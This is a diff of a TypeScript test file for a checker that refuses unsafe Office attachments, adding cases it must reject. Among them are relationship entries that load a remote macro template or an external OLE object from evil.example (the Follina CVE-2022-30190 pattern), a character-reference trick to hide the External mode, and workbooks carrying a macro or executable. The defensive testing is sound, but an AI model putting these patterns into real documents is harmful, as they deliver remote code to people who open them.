@@ -1,5 +1,6 @@
 import sharp from "sharp"
 import {
+  chartParts,
   contentTypes,
   deflatedZeros,
   DOCX_PARTS,
@@ -48,7 +49,6 @@ async function richDocx(extra: Record<string, string | Buffer> = {}) {
     "docProps/app.xml": `${XML}<Properties/>`,
     "docProps/custom.xml": `${XML}<Properties/>`,
     "docMetadata/LabelInfo.xml": `${XML}<clbl:labelList xmlns:clbl="http://schemas.microsoft.com/office/2020/mipLabelMetadata"/>`,
-    "word/_rels/document.xml.rels": `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>`,
     "word/styles.xml": part("styles"),
     "word/settings.xml": part("settings"),
     "word/webSettings.xml": part("webSettings"),
@@ -63,9 +63,7 @@ async function richDocx(extra: Record<string, string | Buffer> = {}) {
     "word/media/image2.png": PNG_BYTES,
     "word/media/image3.emf": EMF,
     "word/media/image4.svg": SVG,
-    "word/charts/chart1.xml": `${XML}<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>`,
-    "word/charts/_rels/chart1.xml.rels": `${XML}<Relationships/>`,
-    "word/embeddings/Microsoft_Excel_Worksheet.xlsx": XLSX_BYTES,
+    ...chartParts(),
     "word/fonts/font1.odttf": Buffer.from([0x9a, 0x1b, 0x33, 0x00, 0x11]),
     "customXml/item1.xml": '<b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"/>',
     "customXml/itemProps1.xml": `${XML}<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>`,
@@ -144,6 +142,62 @@ describe("checkOfficeFile: documents that lie", () => {
       refused("attachmentUnsafe"),
     )
     expect(await checkOfficeFile(await richDocx({ "word/styles.xml": MZ }))).toEqual(refused("attachmentUnsafe"))
+  })
+  it("refuses what fetches or runs something outside the package (issue #50)", async () => {
+    const rels = (relationships: string) =>
+      `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships}</Relationships>`
+    const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    const lies: Array<Record<string, string | Buffer>> = [
+      // A remote template: how macro templates are loaded from outside.
+      {
+        "word/_rels/settings.xml.rels": rels(
+          `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`,
+        ),
+      },
+      // The same, the attribute's value written with a character reference, and a namespace prefix.
+      {
+        "word/_rels/settings.xml.rels": `${XML}<pr:Relationships xmlns:pr="http://schemas.openxmlformats.org/package/2006/relationships"><pr:Relationship Id="rId1" Type="${R}/image" Target="http://evil.example/x" TargetMode="&#69;xternal"/></pr:Relationships>`,
+      },
+      // An external OLE object link (the pattern of CVE-2022-30190).
+      {
+        "word/_rels/document.xml.rels": rels(
+          `<Relationship Id="rId9" Type="${R}/oleObject" Target="http://evil.example/x.html!" TargetMode="External"/>`,
+        ),
+      },
+      // An attached template inside the package is a template all the same.
+      {
+        "word/_rels/settings.xml.rels": rels(`<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="t.dotx"/>`),
+      },
+      // A package embedded as an object, not a chart's data; and a workbook carrying a macro and a program.
+      { "word/embeddings/Documento.xlsx": XLSX_BYTES },
+      ...[
+        makeZip({ ...XLSX_PARTS, "xl/vbaProject.bin": "macro" }),
+        makeZip({ ...XLSX_PARTS, "xl/media/calc.exe": MZ }),
+        makeZip({ ...XLSX_PARTS, "xl/embeddings/inner.xlsx": XLSX_BYTES }),
+      ].map((workbook) => chartParts(workbook)),
+      // ActiveX and embedded objects at any depth, whatever their names.
+      { "word/embeddings/oleObject1.bin": MZ },
+      { "word/glossary/activeX/activeX1.xml": "<ax:ocx/>" },
+    ]
+    for (const parts of lies) {
+      expect([Object.keys(parts)[0], await checkOfficeFile(await richDocx(parts))]).toEqual([
+        Object.keys(parts)[0],
+        refused("attachmentUnsafe"),
+      ])
+    }
+  })
+  it("keeps a hyperlink in the text to a web page, and a chart's workbook", async () => {
+    const hyperlink =
+      `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+      `<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/chart" Target="charts/chart1.xml"/>` +
+      `<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://vigia.com.ar/" TargetMode="External"/></Relationships>`
+    expect(await checkOfficeFile(await richDocx({ "word/_rels/document.xml.rels": hyperlink }))).toEqual({
+      ok: true,
+      format: "docx",
+    })
+  })
+  it("stops at its deadline", async () => {
+    expect(await checkOfficeFile(await richDocx(), Date.now() - 1)).toEqual(refused("attachmentUnchecked"))
   })
   it("refuses an SVG that scripts", async () => {
     const scripted = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
